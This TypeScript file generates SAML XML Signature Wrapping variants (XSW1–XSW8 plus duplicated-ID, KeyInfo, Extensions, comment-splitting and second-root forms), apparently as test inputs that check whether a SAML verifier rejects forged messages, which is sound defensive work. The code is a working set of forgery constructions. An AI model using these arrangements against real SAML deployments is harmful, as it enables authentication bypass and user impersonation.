// The eight arrangements of signature wrapping of Somorovsky et al. (2012), carried over from assertions to requests, and
// the other places where SAML allows foreign content: Extensions, ds:Object, KeyInfo, Subject, duplicated IDs and comments.

export interface Parts {
  /** The signed message, and the same without its signature. */
  signed: string;
  bare: string;
  signature: string;
  /** The attacker's message around or beside it; `inside` is spliced in after its Issuer. */
  evil: (id: string, inside?: string) => string;
}

const signaturePattern = /<ds:Signature .*<\/ds:Signature>/s;

export function partsOf(bare: string, signed: string, evil: Parts['evil']): Parts {
  return { signed, bare, signature: signaturePattern.exec(signed)?.[0] ?? '', evil };
}

const extensions = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`;
const foreign = (content: string) => `<x:box xmlns:x="urn:x">${content}</x:box>`;
const object = (content: string) => `<ds:Object>${content}</ds:Object>`;
const intoSignature = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `${content}</ds:Signature>`);
const intoKeyInfo = (signature: string, content: string) =>
  signature.replace('</ds:KeyInfo>', `${content}</ds:KeyInfo>`);
const intoSigned = (xml: string, content: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${content}`);
const idOf = (xml: string) => / ID="([^"]*)"/.exec(xml)?.[1] ?? '';

/** Every arrangement, as a function from the parts to the attacker's document. */
export const arrangements: Record<string, (parts: Parts) => string> = {
  'XSW1: new root, signature moved into it, original inside the signature': ({ bare, signature, evil }) =>
    evil('_evil', intoSignature(signature, object(bare))),
  'XSW2: new root, signature and original side by side': ({ bare, signature, evil }) =>
    evil('_evil', signature + extensions(bare)),
  'XSW3: attacker message before the original under one root': ({ signed, evil }) =>
    intoSigned(signed, extensions(evil('_evil'))),
  'XSW4: original inside the attacker message, with its signature': ({ signed, evil }) =>
    evil('_evil', extensions(signed)),
  'XSW5: changed root keeps the signature, original follows': ({ bare, signature, evil }) =>
    evil('_evil', `${signature}`).replace(/<\/samlp:\w+>$/, (end) => `${extensions(bare)}${end}`),
  'XSW6: original inside the signature of the changed root': ({ bare, signature, evil }) =>
    evil('_evil', intoKeyInfo(signature, foreign(bare))),
  'XSW7: attacker message in Extensions of the signed one': ({ signed, evil }) =>
    signed.replace('</saml:Issuer>', `</saml:Issuer>${extensions(foreign(evil('_evil')))}`),
  'XSW8: original in an Object, attacker message carries the signature with the same ID': ({ bare, signature, evil }) =>
    evil(idOf(bare), intoSignature(signature, object(bare))),
  'the same ID on both, original in Extensions': ({ signed, bare, evil }) => evil(idOf(bare), extensions(signed)),
  'the same ID on both, signature in the root': ({ bare, signature, evil }) =>
    evil(idOf(bare), signature + extensions(bare)),
  'the same ID on both, signature in the root, original in KeyInfo': ({ bare, signature, evil }) =>
    evil(idOf(bare), intoKeyInfo(signature, foreign(bare))),
  'the same ID spelled Id on a foreign element': ({ bare, signature, evil }) =>
    evil(idOf(bare), signature + extensions(`<x:box xmlns:x="urn:x" Id="${idOf(bare)}">${bare}</x:box>`)),
  'the root refers by another ID attribute': ({ bare, signature, evil }) =>
    evil('_evil', signature + extensions(bare)).replace(' ID="_evil"', ` ID="_evil" xml:id="${idOf(bare)}"`),
  'the signature is left in the original, copied to the root': ({ signed, signature, evil }) =>
    evil('_evil', signature + extensions(signed)),
  'the signature is only in Extensions': ({ bare, signature, evil }) => evil(idOf(bare), extensions(signature)),
  'a reference to the wrapped original, corrected to it': ({ bare, signature, evil }) =>
    evil('_evil', signature + extensions(bare.replace(idOf(bare), '_moved'))).replace(`#${idOf(bare)}`, '#_moved'),
  'the signature hidden in a foreign element of the root': ({ bare, signature, evil }) =>
    evil('_evil', extensions(foreign(signature + bare))),
  'a comment that splits a value': ({ signed }) => signed.replace(/(<saml:Issuer[^>]*>[^<]*)/, '$1<!-- -->'),
  'the attacker message follows as a second root': ({ signed, evil }) => signed + evil('_evil'),
  'the attacker message comes first as a second root': ({ signed, evil }) => evil('_evil') + signed,
};
